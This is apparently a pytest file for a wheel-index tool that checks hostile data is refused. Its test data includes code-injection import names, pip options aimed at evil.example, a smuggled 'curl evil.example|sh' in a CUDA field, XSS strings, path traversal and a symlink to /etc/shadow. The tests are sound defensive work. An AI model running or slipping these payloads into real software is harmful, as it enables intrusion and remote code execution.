"""Hostile data, round two (issue 23): values from package YAML, build records, API asset
objects and the site's own files are data. Each is checked against its shape before it reaches
code, a path, a page or a command; a bad one is one line naming it and the fix."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from packaging.requirements import Requirement

from ghsim.synthetic import sample_record
from tests.roots import REPO
from tests.runner import Recorder
from tests.unit.conftest import package_yaml
from tests.unit.test_index_owned import wheelhouse_catalog
from wheelfarm.builder import envs, importcheck
from wheelfarm.core.errors import ConfigError, SiteError
from wheelfarm.core.root import FarmRoot
from wheelfarm.index import entries
from wheelfarm.index.catalog import Catalog
from wheelfarm.index.entries import Covered, WheelEntry
from wheelfarm.index.owned import OWNED
from wheelfarm.index.site import Site
from wheelfarm.matrix.load import load_matrix, module_problem, requirement_problem

# --- package YAML: import names and requirements (row 1) --------------------------------------

HOSTILE_IMPORTS = [
    'os; open("PWNED","w").write("ran")',
    "flash_attn\n",
    "__import__('os').system('id')",
    "pkg..mod",
    "-c",
    "",
]
HOSTILE_REQUIREMENTS = [
    "--index-url=https://evil.example/simple",
    "-egit+https://evil.example/x@main#egg=x",
    " -r /etc/passwd",
    "x @ git+https://evil.example/x@main",
    "x @ https://evil.example/x.whl",
    "numpy >>= 1",
]


@pytest.mark.parametrize("module", HOSTILE_IMPORTS)
def test_an_import_entry_that_is_code_is_refused_at_load(
    matrix_dir: Callable[..., FarmRoot], module: str
) -> None:
    text = package_yaml("pkg", extra=f"import: [{json.dumps(module)}]\n")
    with pytest.raises(ConfigError) as caught:
        load_matrix(matrix_dir({"pkg": text}))
    (line,) = caught.value.problems
    assert "pkg.yaml:" in line
    assert "import[0]" in line
    assert "dotted module name" in line


@pytest.mark.parametrize("key", ["build_requires", "import_requires"])
@pytest.mark.parametrize("requirement", HOSTILE_REQUIREMENTS)
def test_a_requirement_that_is_an_option_a_url_or_an_editable_is_refused_at_load(
    matrix_dir: Callable[..., FarmRoot], key: str, requirement: str
) -> None:
    text = package_yaml("pkg", extra=f"{key}: [numpy, {json.dumps(requirement)}]\n")
    with pytest.raises(ConfigError) as caught:
        load_matrix(matrix_dir({"pkg": text}))
    (line,) = caught.value.problems
    assert f"pkg.yaml:{len(text.splitlines())}: {key}[1]: " in line
    assert "\n" not in line


def test_the_schema_refuses_code_and_options_too() -> None:
    """The package schema (what an editor checks as the file is typed) has the same shapes: an
    import entry that is code, a requirement that is an option or an editable. (A name with a
    trailing newline, or a URL requirement, passes its pattern; the loader refuses those.)"""
    from jsonschema import Draft202012Validator

    schema = json.loads((REPO.matrix / "schema" / "package.schema.json").read_text())
    fields = schema["properties"]
    for module in (m for m in HOSTILE_IMPORTS if not m.endswith("\n")):
        assert not Draft202012Validator(fields["import"]).is_valid([module]), module
    for key in ("build_requires", "import_requires"):
        for requirement in HOSTILE_REQUIREMENTS[:3]:
            assert not Draft202012Validator(fields[key]).is_valid([requirement]), requirement
        assert Draft202012Validator(fields[key]).is_valid(["ninja>=1.11"])
    assert Draft202012Validator(fields["import"]).is_valid(["pkg._C"])


def test_plain_requirements_and_dotted_modules_load(matrix_dir: Callable[..., FarmRoot]) -> None:
    extra = (
        "import: [pkg, pkg._C, Pkg_2.sub]\n"
        "build_requires: ['ninja>=1.11', 'numpy[dev] ; python_version >= \"3.10\"']\n"
    )
    (package,) = load_matrix(matrix_dir({"pkg": package_yaml("pkg", extra=extra)})).packages
    assert package.imports == ("pkg", "pkg._C", "Pkg_2.sub")
    assert package.build_requires[0] == "ninja>=1.11"


@given(st.text(max_size=40))
@settings(max_examples=300)
def test_any_text_is_a_module_name_only_in_the_dotted_shape(text: str) -> None:
    parts = text.split(".")
    plain = all(p and p.isascii() and p.isidentifier() for p in parts)
    assert (module_problem(text) is None) == plain


@given(st.text(max_size=60))
@settings(max_examples=300)
def test_any_accepted_requirement_is_no_option_and_no_url(text: str) -> None:
    if requirement_problem(text) is None:  # and any other text: a reason, never a traceback
        assert not text.lstrip().startswith("-")
        assert Requirement(text).url is None


def test_the_import_check_passes_names_as_arguments_to_a_fixed_program(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    run = Recorder()
    wheel = tmp_path / "pkg-1.0-cp312-cp312-linux_x86_64.whl"
    with pytest.raises(ConfigError, match=r"'os; open\(\"PWNED\".*not a dotted module name"):
        importcheck.check_import(
            wheel, ("pkg", 'os; open("PWNED","w")'), None, tmp_path / "v",
            python="python3", log=tmp_path / "log", run=run,
        )  # fmt: skip
    assert run.commands == []  # refused before any venv, pip or python ran


@pytest.mark.parametrize("requirement", HOSTILE_REQUIREMENTS[:3])
def test_pip_never_gets_an_option_from_a_package_file(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, requirement: str
) -> None:
    run = Recorder()
    with pytest.raises(ConfigError, match="is an option or an editable"):
        envs.install_requirements(
            tmp_path / "py", ("numpy", requirement), log=tmp_path / "log", run=run
        )
    envs.install_requirements(tmp_path / "py", ("numpy", "scipy>=1"), log=tmp_path / "log", run=run)
    (argv,) = run.commands
    assert argv[-3:] == ["--", "numpy", "scipy>=1"]


# --- values from records, API asset objects and the site reach no path, page or command (row 4)

GOOD = "demo_pkg-1.0.0+cu130torch2.14-cp312-cp312-manylinux_2_28_x86_64.whl"
CELL = {"cuda": "cu130", "torch": "2.14", "python": "3.12", "platform": "linux_x86_64"}
INJECTED = "cu130 --index-url https://evil.example/simple/ ;curl evil.example|sh;"
HOSTILE_ENTRIES = {
    "javascript url": {"url": "javascript:alert(1)//x.whl"},
    "plain http elsewhere": {"url": "http://evil.example/x.whl"},
    "quote in url": {"url": 'https://example.invalid/x.whl"onmouseover="alert(1)'},
    "md5 digest": {"sha256": "md5:" + "a" * 32},
    "non-hex sha256": {"sha256": "g" * 64},
    "upper-case sha256": {"sha256": "AB" * 32},
    "metadata digest": {"metadata_sha256": "zz"},
    "injected cuda": {"covers": (Covered(**{**CELL, "cuda": INJECTED}),)},
    "climbing torch": {"covers": (Covered(**{**CELL, "torch": "../../etc"}),)},
    "html arch": {"sass": ("sm_90<img src=x onerror=alert(1)>",)},
    "climbing arch": {"ptx": ("../../etc",)},
    "bad requires-python": {"requires_python": ">=3.10<img>"},
}


def site_entry(filename: str = GOOD, **kw: object) -> WheelEntry:
    base: dict[str, object] = {
        "filename": filename,
        "url": f"https://example.invalid/dl/{filename.replace('+', '%2B')}",
        "sha256": "ab" * 32,
        "size": 10,
        "covers": (Covered(**CELL),),
    }
    return WheelEntry(**{**base, **kw})  # type: ignore[arg-type]


@pytest.mark.parametrize("bad", HOSTILE_ENTRIES.values(), ids=HOSTILE_ENTRIES.keys())
def test_a_bad_value_drops_that_wheel_with_its_reason_and_reaches_no_page(
    tmp_path: Path, bad: dict[str, object]
) -> None:
    other = GOOD.replace("demo_pkg", "other_pkg")
    with Catalog([site_entry(other), site_entry(**bad)]) as wheels, Site(tmp_path / "s") as site:
        site.commit(wheels, templates=REPO.templates, unfiled=wheels.account())
        (reason,) = wheels.refused
        assert reason.startswith(entries.SHAPES)
        assert wheels.refused[reason] == [GOOD]
    pages = [p for p in (tmp_path / "s").rglob("*") if p.is_file() and p.name != OWNED]
    text = "\n".join(p.read_text() for p in pages)  # the file list keeps the report
    assert "other_pkg" in text  # the rest of the index is written
    assert "demo_pkg" not in text
    for value in bad.values():
        shown = value[0] if isinstance(value, tuple) else value
        assert str(shown) not in text
    assert sorted(p.name for p in (tmp_path / "s").iterdir() if p.is_dir()) == ["cu130"]


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://github.com/o/r/releases/download/v1/x.whl", True),
        ("http://127.0.0.1:8000/x.whl", True),
        ("http://[::1]:8000/x.whl", True),
        ("http://localhost/x.whl", True),
        ("", True),
        ("http://localhost.evil.example/x.whl", False),
        ("https:///x.whl", False),
        ("file:///etc/passwd", False),
        ("data:text/html,<script>", False),
        ("https://example.invalid/x.whl\n--index-url=https://evil", False),
        ("https://exa mple.invalid/x.whl", False),
        ("https://[::1/x.whl", False),
    ],
)
def test_urls_https_only_and_http_to_loopback(url: str, ok: bool) -> None:
    assert (entries.url_problem(url) is None) == ok


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("x" * 230 + "-1.0-py3-none-any.whl", "over 240 characters"),
        ("démo-1.0-py3-none-any.whl", "printable ASCII"),
        ("demo\u202egpj-1.0-py3-none-any.whl", "printable ASCII"),
        ("notes.whl", "not a wheel's"),
    ],
)
def test_a_wheelhouse_name_of_no_shape_is_refused_unread_and_unwritten(
    tmp_path: Path, name: str, why: str
) -> None:
    house, out = tmp_path / "house", tmp_path / "site"
    house.mkdir()
    (house / name).write_bytes(b"not read")
    with Site(out) as site, wheelhouse_catalog(house, None, {}, site) as wheels:
        site.commit(wheels, templates=REPO.templates, unfiled=wheels.account())
        ((reason, names),) = wheels.refused.items()
    assert why in reason
    assert names == [name if name.isascii() and name.isprintable() else ascii(name)]
    assert not (out / "files").exists()


@pytest.mark.parametrize(
    ("tag", "pythons"),
    [
        ("cp3_12-cp3_12", None),
        ("cpx12-cpx12", None),
        ("cp312-cp312", {"3.12"}),
        ("cp312-abi3", {"3.12", "3.13", "3.14"}),
        ("py3-none", {"3.10", "3.11", "3.12", "3.13", "3.14"}),
    ],
)
def test_an_interpreter_tag_no_python_has_is_filed_under_no_python(
    tag: str, pythons: set[str] | None
) -> None:
    """`cp3_12` parses as a tag but names no Python: read as 'py3' it was listed for every
    Python of its cell, though pip installs it under none (nor the install helper's pin)."""
    name = f"demo_pkg-1.0.0+cu130torch2.14-{tag}-manylinux_2_28_x86_64.whl"
    place = entries.covers_from_name(name, load_matrix(REPO))
    if pythons is None:
        assert (place.covers, place.reason) == ((), entries.NO_PYTHON)
    else:
        assert {c.python for c in place.covers} == pythons and place.reason is None


ASCII = st.characters(min_codepoint=0x20, max_codepoint=0x7E)
SHAPED = st.sampled_from(["cu130", "2.14", "3.12", "linux_x86_64", "sm_90", "sm_100f", "sm_90a"])
VALUE = st.one_of(
    SHAPED, st.text(ASCII, max_size=20), st.text(max_size=8), st.integers(), st.none()
)
WRITTEN = sample_record().to_object()  # a whole record: only its cells and archs vary
RECORDS = st.fixed_dictionaries(
    {
        "covers": st.lists(
            st.fixed_dictionaries(dict.fromkeys(WRITTEN["target"]["covers"][0], VALUE)),
            max_size=3,
        ),
        "archs_found": st.dictionaries(
            st.text(max_size=5),
            st.fixed_dictionaries({"cubins": st.lists(VALUE, max_size=3), "ptx": st.lists(VALUE)}),
            max_size=2,
        ),
    }
).map(
    lambda v: {
        **WRITTEN,
        "target": {**WRITTEN["target"], "covers": v["covers"]},
        "archs_found": v["archs_found"],
    }
)


def _all_strings(record: dict[str, Any]) -> bool:
    """Whether the cells and archs RECORDS varied are all strings (the record's types)."""
    values = [v for c in record["target"]["covers"] for v in c.values()]
    values += [a for b in record["archs_found"].values() for a in b["cubins"] + b["ptx"]]
    return all(isinstance(v, str) for v in values)


@given(RECORDS)
@settings(max_examples=60, deadline=None)
def test_any_build_record_lists_its_wheel_with_shaped_values_or_refuses_it(
    record: dict[str, object],
) -> None:
    from tempfile import TemporaryDirectory

    from tests.unit.test_index_owned import wheel

    with TemporaryDirectory() as tmp:
        house, out = Path(tmp) / "house", Path(tmp) / "site"
        house.mkdir()
        wheel(house, GOOD)
        (house / f"{GOOD}.build.json").write_text(json.dumps(record))
        if not _all_strings(record):  # a value that is no string: the record is refused whole
            with pytest.raises(SiteError, match="rebuild the wheel or delete the record") as caught:
                wheelhouse_catalog(house, None, {})
            assert "\n" not in str(caught.value)
            return
        with Site(out) as site, wheelhouse_catalog(house, None, {}, site) as wheels:
            site.commit(wheels, templates=REPO.templates, unfiled=wheels.account())
            refused = dict(wheels.refused)
        manifest = json.loads((out / "packages.json").read_text())
    listed = manifest["wheels"]
    assert len(listed) + sum(map(len, refused.values())) == 1
    for w in listed:
        assert all(entries.ARCH.fullmatch(a) for a in w["archs"]["sass"] + w["archs"]["ptx"])
        for c in w["covers"]:
            assert entries.CUDA_TAG.fullmatch(c["cuda"])
            assert entries.TORCH_MINOR.fullmatch(c["torch"])


# --- smaller rows: a symlink member, a full disk, the lock, bytes written over a wheel ---------


def test_verify_flags_a_symlink_member_listed_in_record(tmp_path: Path) -> None:
    import stat
    import zipfile

    from ghsim.synthetic import elf_with_fatbin
    from tests.unit.test_arch_none import PYCUDA
    from wheelfarm.builder.build import expectation
    from wheelfarm.builder.target import resolve
    from wheelfarm.builder.verify import verify_static
    from wheelfarm.core.wheelfile import write_wheel
    from wheelfarm.matrix.expand import expand

    info = "pycuda-2026.1+cu130.dist-info"
    files = {
        "pycuda/__init__.py": b"",
        "pycuda/_driver.cpython-312-x86_64-linux-gnu.so": elf_with_fatbin(b""),
        "pycuda/secrets": b"/etc/shadow",
        f"{info}/METADATA": b"Metadata-Version: 2.1\nName: pycuda\nVersion: 2026.1+cu130\n",
        f"{info}/WHEEL": b"Wheel-Version: 1.0\nTag: cp312-cp312-manylinux_2_28_x86_64\n",
    }
    plain = tmp_path / "plain.whl"
    write_wheel(plain, files, info)
    wheel = tmp_path / "pycuda-2026.1+cu130-cp312-cp312-manylinux_2_28_x86_64.whl"
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(wheel, "w") as dst:
        for member in src.infolist():
            if member.filename == "pycuda/secrets":
                member.external_attr = (stat.S_IFLNK | 0o777) << 16
            dst.writestr(member, src.read(member))
    matrix = load_matrix(REPO)
    (problem,) = verify_static(wheel, expectation(resolve(matrix, expand(matrix), PYCUDA))).problems
    assert problem == (
        "pycuda/secrets: a symbolic link member (to '/etc/shadow'); store the file itself"
    )


def _house(tmp_path: Path, count: int = 2) -> Path:
    from tests.unit.test_index_owned import wheel

    house = tmp_path / "house"
    house.mkdir()
    for i in range(count):
        wheel(house, GOOD.replace("cp312-cp312", f"cp31{i}-cp31{i}"), body=b"%d" % i)
    return house


def _index(house: Path, out: Path, **kw: float) -> None:
    from wheelfarm.index.write import index_wheelhouse
    from wheelfarm.matrix.expand import expand

    matrix = load_matrix(REPO)
    index_wheelhouse(matrix, expand(matrix), house, out, title="t", **kw)


def test_a_full_disk_is_one_line_and_the_old_site_stays(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import errno
    import os

    from wheelfarm.core.errors import SiteError
    from wheelfarm.index import fs

    house, out = _house(tmp_path), tmp_path / "site"
    _index(house, out)
    before = {p: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    (house / GOOD.replace("cp312-cp312", "cp311-cp311")).unlink()  # a change to write
    from tests.unit.test_index_owned import wheel

    wheel(house, GOOD.replace("cp312-cp312", "cp313-cp313"))
    real = fs.write

    def full(path: str, data: bytes) -> None:
        if path.endswith(".metadata"):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), path)
        real(path, data)

    monkeypatch.setattr(fs, "write", full)
    with pytest.raises(SiteError) as caught:
        _index(house, out, lock_timeout=0)
    (line,) = str(caught.value).splitlines()
    assert "No space left on device" in line
    assert "the old site is unchanged" in line
    assert {p: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["house", "site", "site.lock"]


def test_a_second_writer_waits_up_to_its_bound_then_names_the_holder(tmp_path: Path) -> None:
    import os
    import socket

    from wheelfarm.core.errors import SiteError
    from wheelfarm.index.lock import site_lock

    house, out = _house(tmp_path), tmp_path / "site"
    with site_lock(out.resolve()):
        with pytest.raises(SiteError) as caught:
            _index(house, out, lock_timeout=0.3)
        (line,) = str(caught.value).splitlines()
        assert f"held by pid {os.getpid()} on {socket.gethostname()} since " in line
        assert "waited 0.3 s" in line and "--lock-timeout" in line
        assert not out.exists()  # nothing written
    _index(house, out, lock_timeout=0.3)
    assert (out / "packages.json").is_file()


def test_bytes_written_over_a_wheelhouse_wheel_never_change_the_site_under_its_hash(
    tmp_path: Path,
) -> None:
    import hashlib
    import os

    house, out = _house(tmp_path), tmp_path / "site"
    _index(house, out)
    wheel = house / GOOD.replace("cp312-cp312", "cp310-cp310")
    served = (out / "files" / wheel.name).read_bytes()
    st = wheel.stat()
    data = bytearray(wheel.read_bytes())
    data[-30] ^= 1  # same size; then the old mtime put back, as `cp -p` does
    with wheel.open("r+b") as fh:  # written in place: the same inode
        fh.write(data)
    os.utime(wheel, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert (out / "files" / wheel.name).read_bytes() == served  # a copy, not a link
    _index(house, out)
    manifest = json.loads((out / "packages.json").read_text())
    (listed,) = [w for w in manifest["wheels"] if w["filename"] == wheel.name]
    now = (out / "files" / wheel.name).read_bytes()
    assert now == bytes(data)  # the ctime told the rerun: read again
    assert listed["sha256"] == hashlib.sha256(now).hexdigest()


def test_serve_answers_400_for_a_nul_byte_and_logs_no_traceback(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import io

    from wheelfarm.index.serve import _Handler

    class Probe(_Handler):
        def __init__(self, path: str) -> None:  # a request without a socket
            self.path, self.directory, self.wfile = path, str(tmp_path), io.BytesIO()
            self.request_version, self.command, self.close_connection = "HTTP/1.1", "GET", True
            self.requestline = f"GET {path} HTTP/1.1"
            self.headers = {}  # type: ignore[assignment]

    for path in ("/files/%00", "/files/%00.whl", "/a%00b/"):
        probe = Probe(path)
        assert probe.send_head() is None
        status = probe.wfile.getvalue().split(b"\r\n", 1)[0]
        assert status.split()[1] == b"400", status
    assert "Traceback" not in capsys.readouterr().err


# --- JSON nested 100k deep: every reader answers one line, never a RecursionError (row 6) ----

DEEP = "[" * 100_000 + "]" * 100_000


def test_a_deep_packages_json_is_one_line_for_the_site_and_the_planner(tmp_path: Path) -> None:
    from wheelfarm.core.errors import SiteError, UsageError
    from wheelfarm.matrix.plan import existing_build_ids

    house, out = _house(tmp_path), tmp_path / "site"
    _index(house, out)
    manifest = out / "packages.json"
    text = manifest.read_text()
    manifest.write_text(text.replace('"wheels":[', f'"wheels":[{DEEP},', 1))
    (house / GOOD.replace("cp312-cp312", "cp311-cp311")).unlink()  # a change: the site is read
    with pytest.raises(SiteError, match=r"not a wheelfarm packages\.json") as caught:
        _index(house, out)
    assert len(str(caught.value).splitlines()) == 1
    manifest.write_text(DEEP)
    with pytest.raises(UsageError, match="JSON nested 100000 deep, more than the 64 allowed"):
        existing_build_ids(manifest)


def test_a_deep_file_list_line_or_cache_row_is_one_line_or_a_fresh_site(tmp_path: Path) -> None:
    from wheelfarm.core.errors import SiteError
    from wheelfarm.index.owned import read_owned
    from wheelfarm.index.site import reuse

    house, out = _house(tmp_path), tmp_path / "site"
    _index(house, out)
    owned = out / OWNED
    lines = owned.read_text().splitlines(keepends=True)
    owned.write_text(DEEP + "\n" + "".join(lines[1:]))
    assert reuse(out, "any") is None  # line 1 not to be trusted: the site is written again
    cache = next(i for i, line in enumerate(lines) if line.startswith('"demo_pkg'))
    lines[cache] = f'"x.whl":{DEEP},\n'
    owned.write_text("".join(lines))
    with pytest.raises(SiteError, match="not a wheelfarm file list") as caught:
        read_owned(out)
    assert "nested deeper than 64" in str(caught.value)


def test_a_deep_build_record_is_one_line_for_index_publish_and_rebuild(tmp_path: Path) -> None:
    from wheelfarm import farm
    from wheelfarm.core.errors import SiteError, UsageError

    house, out = _house(tmp_path), tmp_path / "site"
    record = house / f"{GOOD.replace('cp312-cp312', 'cp310-cp310')}.build.json"
    record.write_text(DEEP)
    with pytest.raises(SiteError, match="JSON nested 100000 deep") as caught:
        _index(house, out)
    assert "rebuild the wheel or delete the record" in str(caught.value)
    wheel = house / record.name.removesuffix(".build.json")
    (problem,) = farm._record_problems(wheel, record)
    assert "JSON nested 100000 deep" in problem
    with pytest.raises(UsageError, match="JSON nested 100000 deep"):
        farm._read_record(wheel, record)


def test_a_bidi_override_in_a_yank_reason_is_shown_escaped(tmp_path: Path) -> None:
    from wheelfarm.index.site import build_site

    build_site([site_entry(yanked="broken \u202egpj.exe")], tmp_path, templates=REPO.templates)
    page = (tmp_path / "cu130" / "torch2.14" / "demo-pkg" / "index.html").read_text()
    assert 'data-yanked="broken \\u202egpj.exe"' in page
    assert "\u202e" not in page


FILE_LIST_LINE = st.one_of(
    st.sampled_from(['{"cache":{', '},"files":{', "}}", '"a.html":"' + "ab" * 32 + '",']),
    st.builds(lambda k, v: f"{json.dumps(k)}:{json.dumps(v)},", st.text(max_size=8), VALUE),
    st.text(max_size=30),
    st.integers(1, 200).map(lambda n: '"x":' + "[" * n + "]" * n + ","),
)


@given(st.lists(FILE_LIST_LINE, max_size=8))
@settings(max_examples=200, deadline=None)
def test_any_file_list_is_read_or_refused_in_one_line(lines: list[str]) -> None:
    from tempfile import TemporaryDirectory

    from wheelfarm.core.errors import SiteError
    from wheelfarm.index.owned import read_owned
    from wheelfarm.index.site import reuse

    with TemporaryDirectory() as tmp:
        out = Path(tmp) / "site"
        out.mkdir()
        (out / OWNED).write_text("\n".join(['{"version":3}', *lines]) + "\n")
        assert reuse(out, "key") is None
        refusal: SiteError | None = None
        try:
            owned = read_owned(out)
        except SiteError as exc:
            refusal = exc
        if refusal is not None:
            assert "not a wheelfarm file list" in str(refusal) or "did not write" in str(refusal)
            assert len(str(refusal).splitlines()) == 1
        else:
            for rel in owned.files():
                assert isinstance(owned.sha256(rel), str)
            owned.close()
